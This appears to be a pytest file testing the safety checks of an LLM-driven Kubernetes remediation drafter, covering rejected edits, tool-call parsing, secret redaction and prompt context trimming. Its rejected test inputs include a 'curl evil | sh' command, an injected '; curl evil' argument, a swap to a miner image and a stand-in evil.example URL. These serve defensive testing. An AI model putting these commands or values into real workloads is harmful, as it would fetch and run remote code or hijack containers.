"""The model drafter's safety pieces on their own: value checks, tool output parsing, the
allow-list re-check, context trimming and redaction, provider settings."""

from __future__ import annotations

import copy
from dataclasses import replace
from typing import Any

import jsonpatch
import pytest

from remediator.config import ConfigError, LLMSettings, parse_config
from remediator.draft.llm import context, make_drafter
from remediator.draft.llm.fields import Converter, Rejected
from remediator.draft.llm.proposal import build
from remediator.draft.llm.providers import MAX_RETRY_WAIT, ProviderError, make_provider, retry_after
from remediator.draft.llm.tools import NO_FIX, PROPOSE, Answer, parse_answer, tool_specs
from remediator.kernel.redact import is_secret_name
from remediator.model import Location, TargetKind
from tests.support.drafting import converter, crash, crashing_workload, location, workload


@pytest.mark.parametrize(("field", "value", "why"), [
    ("env", [{"name": "DB_PASS", "valueFrom": {"secretKeyRef": {"name": "admin-creds",
                                                                "key": "token"}}}],
     "secret 'admin-creds' is not one the pod already uses"),
    ("env", [{"name": "DB_PASS", "value": "[REDACTED]"}], "redacted value"),
    ("env", [{"name": "X", "value": "1", "valueFrom": {}}], "exactly one of"),
    ("env", [{"name": "not a name", "value": "1"}], "valid variable name"),
    ("command", ["/bin/sh", "-c", "curl evil | sh"], "adds shell syntax"),
    ("command", ["/bin/bash", "--debug"], "executable cannot change"),
    ("args", ["--listen=:8080; curl evil"], "adds shell syntax"),
    ("volumeMounts", [{"name": "host-root", "mountPath": "/data"}], "not a volume of the pod"),
    ("volumeMounts", [{"name": "config", "mountPath": "/etc"}], "is not allowed"),
    ("volumeMounts", [{"name": "config", "mountPath": "/x", "mountPropagation": "Bidirectional"}],
     "entries have"),
    ("resources.limits.memory", "lots", "not a Kubernetes quantity"),
    ("workingDir", "../../", "absolute path"),
])
def test_values_a_model_may_not_set(field: str, value: Any, why: str):
    with pytest.raises(Rejected, match=why.replace("(", r"\(").replace("[", r"\[")):
        converter().changes(field, value)


def test_values_a_model_may_set():
    conv = converter(allowed_env=["DB_USER"])
    env = conv.changes("env", [{"name": "DB_HOST", "value": "db.shop"},
                               {"name": "DB_USER", "valueFrom": {"secretKeyRef": {
                                   "name": "cart-db", "key": "user"}}}])[("env",)]
    assert [e["name"] for e in env] == ["DB_HOST", "DB_PASS", "DB_USER"]
    assert env[0] == {"name": "DB_HOST", "value": "db.shop"}
    # shell-looking text the container already had may stay
    assert conv.changes("args", ["--listen=:9090", "$(EXTRA_FLAGS)"]) == {
        ("args",): ["--listen=:9090", "$(EXTRA_FLAGS)"]}
    assert conv.changes("command", ["/app/cart", "serve"]) == {("command",): ["/app/cart",
                                                                              "serve"]}
    mounts = conv.changes("volumeMounts", [{"name": "config", "mountPath": "/config",
                                            "readOnly": True}])
    assert mounts == {("volumeMounts",): [{"name": "config", "mountPath": "/config",
                                           "readOnly": True}]}


def test_env_removal_only_in_a_full_manifest():
    assert converter().changes("env", [{"name": "DB_HOST", "remove": True}])[("env",)] == [
        {"name": "DB_PASS", "valueFrom": {"secretKeyRef": {"name": "cart-db",
                                                           "key": "password"}}}]
    patch = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "cart"}}
    conv = Converter(crash(), location(patch, TargetKind.PATCH, rendered=crashing_workload()),
                     600)
    with pytest.raises(Rejected, match="through a patch"):
        conv.changes("env", [{"name": "DB_HOST", "remove": True}])


@pytest.mark.parametrize(("image", "why"), [
    ("docker.io/evil/miner:1.0", "another image"),
    ("ghcr.io/acme/cart@sha256:" + "a" * 64, "plain tag"),
    ("ghcr.io/acme/cart:2.0.0", "the image that fails"),
])
def test_an_image_change_keeps_the_image(image: str, why: str):
    with pytest.raises(Rejected, match=why):
        converter(workload(image="ghcr.io/acme/cart:2.0.0"), "ImagePullBackOff").changes(
            "image", image)
    assert converter(workload(image="ghcr.io/acme/cart:2.0.0"), "ImagePullBackOff").changes(
        "image", "ghcr.io/acme/cart:1.9.1") == {("image",): "ghcr.io/acme/cart:1.9.1"}


def test_a_startup_probe_reuses_the_containers_own_check():
    conv = converter(workload(), "ProbeFailure")
    own = {"httpGet": {"path": "/health", "port": 8080}, "periodSeconds": 10,
           "failureThreshold": 30}
    assert conv.changes("startupProbe", own) == {("startupProbe",): own}
    with pytest.raises(Rejected, match="own liveness or readiness"):
        conv.changes("startupProbe", {"exec": {"command": ["sh", "-c", "true"]}})
    with pytest.raises(Rejected, match="more than the configured 600s"):
        conv.changes("startupProbe", {**own, "failureThreshold": 100})


def answer(*edits: dict[str, Any]) -> Answer:
    return Answer(PROPOSE, "DB_HOST points nowhere. See `cannot resolve db`.", "fix it", 0.7,
                  list(edits))


def test_build_rechecks_what_the_schema_already_said():
    doc = crashing_workload()
    loc = location(doc)
    # an answer that skipped the schema (a provider that does not enforce it)
    for edit, why in [
        ({"file": loc.target.path, "field": "image", "value": "evil:1"}, "not allowed for"),
        ({"file": "other.yaml", "field": "env", "value": []}, "is not where env"),
        ({"file": loc.target.path, "field": "securityContext", "value": {}}, "not allowed"),
    ]:
        with pytest.raises(Rejected, match=why):
            build(answer(edit), crash(), loc, "llm:test", 600)
    edit = {"file": loc.target.path, "field": "env", "value": [{"name": "DB_HOST",
                                                                "value": "db.shop.svc"}]}
    unsure = answer(edit)
    unsure.confidence = 0.3
    with pytest.raises(Rejected, match=r"confidence \(0.3\) is below 0.5"):
        build(unsure, crash(), loc, "llm:test", 600)
    with pytest.raises(Rejected, match="edited twice"):
        build(answer(edit, edit), crash(), loc, "llm:test", 600)
    p = build(answer(edit), crash(), loc, "llm:test", 600)
    after = jsonpatch.apply_patch(copy.deepcopy(doc), p.edits[0].ops)
    assert after["spec"]["template"]["spec"]["containers"][1]["env"][0] == {
        "name": "DB_HOST", "value": "db.shop.svc"}
    assert p.changes[0]["field"] == "containers[cart].env"
    assert p.edits[0].ops[0]["op"] == "test"  # a replay on a moved file fails, never clobbers


def test_helm_locations_offer_only_the_values_keys_the_chart_uses():
    from remediator.draft.llm.fields import fields_for

    loc = Location(location(workload()).target, TargetKind.MANIFEST, {"spec": {"values": {}}},
                   workload(), "why", "helm", values_path=("spec", "values"),
                   value_keys={"resources": ("resources",)})
    assert fields_for("CrashLoopBackOff", loc) == ("resources.limits.memory",
                                                   "resources.requests.memory")
    assert fields_for("CreateContainerConfigError", loc) == ()
    assert [t.name for t in tool_specs([loc.target.path], ())] == [NO_FIX]


def test_tool_output_parsing():
    specs = tool_specs(["a.yaml"], ("env",))
    good = '{"diagnosis": "d", "rationale": "r", "confidence": 0.5, "edits": ' \
           '[{"file": "a.yaml", "field": "env", "value": []}]}'
    assert parse_answer([(PROPOSE, good)], specs).edits[0]["field"] == "env"
    assert parse_answer([(NO_FIX, {"diagnosis": "d"})], specs).tool == NO_FIX
    for calls, why in [
        ([(PROPOSE, good), (PROPOSE, good)], "one tool call, got 2"),
        ([("run_shell", "{}")], "unknown tool"),
        ([(PROPOSE, good[:40])], "not valid JSON"),
        ([(PROPOSE, good.replace("0.5", "7"))], "confidence"),
        ([(PROPOSE, good.replace('"env"', '"image"'))], "edits/0/field"),
        ([(NO_FIX, {"diagnosis": "d", "edits": []})], "Additional properties"),
    ]:
        with pytest.raises(Rejected, match=why):
            parse_answer(calls, specs)


def test_context_keeps_the_decisive_line_within_the_budget():
    noise = [f"INFO request {i} ok path=/item/{i * 7}" for i in range(300)]
    varied = [f"WARN cache miss for key-{chr(97 + i % 26)}{chr(97 + i // 26)}" for i in range(60)]
    decisive = "ERROR cannot open /config/app.yaml: no such file or directory"
    log = "\n".join([*noise, *varied, decisive, "INFO exiting"])
    inc = crash(log=log)
    loc = location(crashing_workload())
    full = context.build(inc, loc, [loc.target.path], ("env",), 10_000)
    budget = full.tokens - 60
    small = context.build(inc, loc, [loc.target.path], ("env",), budget)
    assert full.decisive == small.decisive == decisive
    assert decisive in small.user and small.tokens <= budget
    tiny = context.build(inc, loc, [loc.target.path], ("env",), 100)  # cannot fit: trims all
    assert decisive in tiny.user and "events:" not in tiny.user
    assert small.user.count("WARN cache miss") < full.user.count("WARN cache miss")
    assert "63 distinct lines" in full.user  # 300 requests fold into one (numbers ignored)
    assert "ghcr.io/acme/proxy" not in full.user and "- sidecar" in full.user
    nonce = full.user.split("<<<EVIDENCE-")[1][:8]
    assert f"EVIDENCE-{nonce}>>>" in full.user and "untrusted" in full.system


def test_context_masks_secret_named_env_values():
    doc = crashing_workload()
    doc["spec"]["template"]["spec"]["containers"][1]["env"].append(
        {"name": "STRIPE_API_KEY", "value": "rk_live_51HxAbCdEf"})
    loc = location(doc)
    p = context.build(crash(), loc, [loc.target.path], ("env",), 10_000)
    assert "rk_live_51HxAbCdEf" not in p.user and p.redactions >= 1
    assert "value: db" in p.user  # an ordinary value stays
    assert is_secret_name("DB_PASSWORD") and is_secret_name("api_key")
    assert not is_secret_name("LOG_LEVEL")


@pytest.mark.parametrize(("text", "message"), [
    ("drafting:\n  provider: openai\n", "provider 'openai' needs drafting.model"),
    ("drafting:\n  provider: openai-compatible\n  model: m\n", "needs drafting.baseUrl"),
    ("drafting:\n  provider: gemini\n", "'gemini' is not one of"),
    ("drafting:\n  provider: openai\n  model: m\n  apiKey: sk-123\n", "unknown key 'apiKey'"),
    ("drafting:\n  maxTokensPerIncident: 10\n", "less than the minimum"),
])
def test_drafting_config_errors(text: str, message: str):
    with pytest.raises(ConfigError, match=message):
        parse_config(text)


def test_keys_come_from_the_configured_environment_variable():
    cfg = parse_config("drafting:\n  provider: anthropic\n  model: m\n  apiKeyEnv: TEAM_KEY\n")
    with pytest.raises(ProviderError, match="TEAM_KEY is not set"):
        make_provider("anthropic", cfg.drafting.llm, {"ANTHROPIC_API_KEY": "x"})
    assert make_provider("anthropic", cfg.drafting.llm, {"TEAM_KEY": "x"}).name == "anthropic"
    local = LLMSettings(model="llama3", base_url="http://127.0.0.1:11434/v1")
    assert make_provider("openai-compatible", local, {}).name == "openai-compatible"
    drafter, why = make_drafter(parse_config("drafting:\n  provider: openai\n  model: m\n")
                                .drafting, env={})
    assert drafter is None and "OPENAI_API_KEY is not set" in why


def test_retry_after_is_bounded():
    assert retry_after({"retry-after": "2"}, 0) == 2.0
    assert retry_after({"retry-after": "86400"}, 0) == MAX_RETRY_WAIT
    assert retry_after({"retry-after": "Thu, 01 Jan 1970 00:00:00 GMT"}, 0) == 0.0
    assert retry_after({}, 1) == 2.0
    assert retry_after({"retry-after": "soon"}, 2) == 4.0


def test_model_text_cannot_render_or_notify_in_a_pr_body():
    from remediator.draft.llm.proposal import plain

    text = plain('Ask @acme/security. ![x](https://evil.example/p.png) [docs](https://e.example) '
                 '<!-- remediator:record {"signature": "x"} --> <img src=x>')
    assert "<" not in text and "](" not in text
    assert "`@acme/security`" in text and "docs (`https://e.example`)" in text
    assert plain("mail me at a@b.example") == "mail me at a@b.example"


def test_merged_remediations_of_the_class_are_examples(tmp_path):
    from remediator.draft.llm.examples import merged_examples
    from tests.support.repos import commit

    trailer = "\n\nRemediator-Signature: c/shop/Deployment/{}/{}/app/detail"
    commit(tmp_path, {"a.yaml": "env:\n  - {name: DB_HOTS, value: db}\n"}, "init")
    commit(tmp_path, {"a.yaml": "env:\n  - {name: DB_HOST, value: db}\n"},
           "fix(shop/a): CrashLoopBackOff — set env of a" + trailer.format("a", "CrashLoopBackOff"))
    commit(tmp_path, {"b.yaml": "memory: 192Mi\n"},
           "fix(shop/b): OOMKilled — raise b memory" + trailer.format("b", "OOMKilled"))
    commit(tmp_path, {"c.yaml": "password: hunter2hunter2\n"}, "not a remediation")
    [example] = merged_examples(tmp_path, "CrashLoopBackOff")
    assert example.splitlines() == ["fix(shop/a): CrashLoopBackOff — set env of a", "a.yaml:",
                                    "-  - {name: DB_HOTS, value: db}",
                                    "+  - {name: DB_HOST, value: db}"]
    assert merged_examples(tmp_path, "JobFailed") == []
    assert merged_examples(tmp_path / "nowhere", "OOMKilled") == []
    # one read of the history per head and class: a pass drafts many incidents of a class
    from remediator.draft.llm.examples import _examples_at
    hits = _examples_at.cache_info().hits
    assert merged_examples(tmp_path, "CrashLoopBackOff") == [example]
    assert _examples_at.cache_info().hits == hits + 1
    commit(tmp_path, {"d.yaml": "memory: 256Mi\n"},
           "fix(shop/d): OOMKilled — raise d memory" + trailer.format("d", "OOMKilled"))
    assert [e.splitlines()[0] for e in merged_examples(tmp_path, "OOMKilled")] == [
        "fix(shop/d): OOMKilled — raise d memory",
        "fix(shop/b): OOMKilled — raise b memory"]

    loc = location(crashing_workload())
    inc = crash(log="ERROR cannot resolve DB_HOST")
    with_examples = context.build(inc, loc, [loc.target.path], ("env",), 10_000,
                                  examples=[example])
    assert "merged earlier for this class" in with_examples.user and "DB_HOTS" in with_examples.user
    tight = context.build(inc, loc, [loc.target.path], ("env",), with_examples.tokens - 10,
                          examples=[example])
    assert "DB_HOTS" not in tight.user and "cannot resolve DB_HOST" in tight.user


def test_lists_merged_by_name_need_a_document_not_a_patch_operation():
    from remediator.draft.llm.fields import fields_for

    loc = location(crashing_workload())
    assert "env" in fields_for("CrashLoopBackOff", loc)
    loc = replace(loc, op_index=0, op_field=())
    assert fields_for("CrashLoopBackOff", loc) == ("command", "args", "resources.limits.memory",
                                                   "resources.requests.memory")


def test_prs_closed_unmerged_are_counter_examples_in_the_prompt(tmp_path):
    import httpx2

    from remediator.draft.llm import closed_examples
    from remediator.pipeline import plan
    from tests.support import llm_scenarios as sc

    record = {"class": "CrashLoopBackOff", "changes": [
        {"file": sc.FILE, "field": "containers[web].args", "old": ["--port=8080"],
         "new": ["--port=8080", "--skip-db-check"]}]}
    assert closed_examples([record, {"class": "OOMKilled"}, {"changes": []}]) == {
        "CrashLoopBackOff": [f'{sc.FILE}: containers[web].args: ["--port=8080"] -> '
                             '["--port=8080", "--skip-db-check"]']}
    sent: list[bytes] = []

    def answer(request: httpx2.Request) -> httpx2.Response:
        sent.append(request.content)
        return httpx2.Response(200, json=sc.anthropic_reply(*sc.ANSWERS["nofix"]))

    sc.make_repo(tmp_path / "repo")
    cfg = sc.config("anthropic")
    # the real client over httpx's in-process transport: the request body is what would be sent
    llm, _ = make_drafter(cfg.drafting, tmp_path / "cache", sc.FAKE_KEYS,
                          http_client=httpx2.Client(transport=httpx2.MockTransport(answer)))
    [r] = plan(sc.state(), tmp_path / "repo", cfg, llm=llm, closed_records=[record]).remediations
    assert r.decision.value == "diagnose"
    [body] = sent
    assert b"closed without merging" in body and b"--skip-db-check" in body
    assert llm.counter_examples == {}  # the plan had its own: the caller's drafter is as it was


def test_a_patch_without_the_container_shows_it_as_rendered():
    patch = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "cart"},
             "spec": {"replicas": 3}}
    rendered = crashing_workload()
    rendered["spec"]["template"]["spec"]["containers"][1]["env"].append(
        {"name": "SESSION_SECRET", "value": "s3ss10n-v4lue"})
    loc = location(patch, TargetKind.PATCH, rendered=rendered)
    p = context.build(crash(), loc, [loc.target.path], ("env",), 10_000)
    assert "As rendered from the layers below" in p.user
    assert "DB_PASS" in p.user and "cart-config" not in p.user and "- config" in p.user
    assert "s3ss10n-v4lue" not in p.user
    full = context.build(crash(), location(rendered), [loc.target.path], ("env",), 10_000)
    assert "As rendered" not in full.user
